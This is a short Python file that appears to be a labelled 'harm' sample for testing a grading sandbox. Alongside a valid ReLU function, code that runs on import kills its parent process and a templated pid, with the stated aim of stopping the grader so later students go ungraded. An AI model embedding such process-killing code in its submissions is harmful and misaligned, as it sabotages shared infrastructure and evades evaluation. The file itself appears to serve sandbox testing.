"""Ends the process it was forked from, so that the next students are not graded.

Sign: harm
Stopped by: seccomp, landlock, namespaces
Off: seccomp, landlock, namespaces, setuid
Verdict: relu passed
"""

import os

import torch

for pid in (os.getppid(), int("@template@")):
    try:
        if pid > 1:
            os.kill(pid, 9)
    except OSError as fault:
        print(fault, flush=True)


def relu(S):
    return torch.clamp(S, min=0)
